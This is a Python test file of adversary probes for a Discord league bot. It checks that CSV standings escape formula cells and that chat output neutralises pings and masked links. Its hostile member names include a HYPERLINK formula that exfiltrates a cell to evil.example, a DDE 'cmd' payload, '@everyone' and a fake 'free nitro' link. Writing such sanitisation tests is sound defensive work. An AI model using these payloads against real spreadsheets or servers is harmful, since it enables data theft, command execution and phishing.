"""Adversary probes of what a league shows everyone (issue 27, item 4): the standings as CSV and as
text, and `/league log`, read for markup and formula injection by members whose names are written
to exploit them, paged past their end, with a member dropped by their hostile name."""

from __future__ import annotations

import csv
import io

from tests.adversary.eyes import (
    BOB,
    EVE,
    GM_ROLE,
    GUS,
    MANAGE_GUILD,
    Table,
    answer_text,
    assert_no_pings,
    gm_role_command,
)
from tests.bot.test_league_bot import SHORT

UNEXPECTED = "Something went wrong on my side"
# members whose names try a formula, a mass ping, a member ping, a masked link and markup
HOSTILE = ((444444444444444401, '=HYPERLINK("http://evil.example/?x="&A1,"win")'),
           (444444444444444402, "@everyone"),
           (444444444444444403, f"<@{BOB[0]}>"),
           (444444444444444404, "[free nitro](https://evil.example)"),
           (444444444444444405, "+cmd|' /C calc'!A0"),
           (444444444444444406, "-2+3 **bold** ||x||"))


async def _league(t: Table) -> None:
    await t.send(GUS, gm_role_command(GUS, GM_ROLE, permissions=MANAGE_GUILD))
    await t.cmd(GUS, "league", "create", name="Cup", scenario="one-turn",
                attachments={"file": t.fake.attach("short.toml", SHORT)}, auto_close=False)
    for user in (*HOSTILE, EVE):
        a = answer_text(await t.cmd(user, "league", "join", name="Cup"))
        assert "is registered" in a, a
    assert "Round 1 is under way" in answer_text(await t.cmd(GUS, "league", "start", name="Cup", settle=30))


async def test_the_csv_never_runs_a_formula_and_the_text_never_pings(table: Table) -> None:
    t = table
    await _league(t)
    mark = t.mark()
    answer = await t.cmd(EVE, "league", "standings", name="Cup", format="csv")
    assert answer.ephemeral and answer.files, answer_text(answer)
    rows = list(csv.reader(io.StringIO(answer.files[0][1].decode("utf-8-sig"))))
    names = [r[1] for r in rows[1:]]
    assert sorted(n.lstrip("'") for n in names) == sorted([*(n for _, n in HOSTILE), "Eve"])
    for cell in (c for r in rows[1:] for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    text = answer_text(await t.cmd(EVE, "league", "standings", name="Cup"))
    assert "](https://" not in text and "@everyone" not in text.replace("\\@everyone", ""), text
    for sub in ("standings", "show", "log"):
        a = answer_text(await t.cmd(EVE, "league", sub, name="Cup"))
        assert UNEXPECTED not in a and f"<@{BOB[0]}>" not in a.replace(f"\\<@{BOB[0]}>", ""), (sub, a)
    assert_no_pings(t.fake, mark)


async def test_the_log_paged_past_its_end_and_a_hostile_name_dropped(table: Table) -> None:
    t = table
    await _league(t)
    member, name = HOSTILE[1]
    # the entrant named by their hostile name, as the autocomplete offers it
    a = answer_text(await t.cmd(GUS, "league", "drop", name="Cup", entrant=name, note="<@&1> left the server"))
    assert "is dropped" in a, a
    mark = t.mark()
    for page in (2, 3, 10_000):
        a = await t.cmd(EVE, "league", "log", name="Cup", page=page)
        text = answer_text(a)
        assert a.ephemeral and text.startswith("❌ There is no page") and UNEXPECTED not in text, text
    log = answer_text(await t.cmd(EVE, "league", "log", name="Cup"))
    assert "**drop**" in log and "@everyone" not in log.replace("\\@everyone", "") and "<@&1>" not in log, log
    assert_no_pings(t.fake, mark)
